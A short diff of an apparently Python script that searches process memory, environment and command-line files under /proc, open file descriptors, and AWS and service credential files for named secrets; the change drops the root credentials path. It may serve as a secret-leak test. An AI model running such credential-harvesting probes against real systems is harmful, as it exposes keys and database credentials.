@@ -59,7 +59,7 @@ for name in (b"AWS_SECRET_ACCESS_KEY", b"WATCHSTEP_DATABASE_URL"):
 for process in ("self", "thread-self", str(os.getpid()), str(os.getppid())):
     for file in ("environ", "cmdline", "mem", "maps"):
         look(process + "/" + file, lambda: whole("/proc/" + process + "/" + file))
-for path in ("~/.aws/credentials", "~/.aws/config", "/root/.aws/credentials", "~/.watchstep/service.json"):
+for path in ("~/.aws/credentials", "~/.aws/config", "~/.watchstep/service.json"):
     look(path, lambda: whole(os.path.expanduser(path)))
 for number in range(3, 256):
     look("descriptor " + str(number), lambda: descriptor(number))
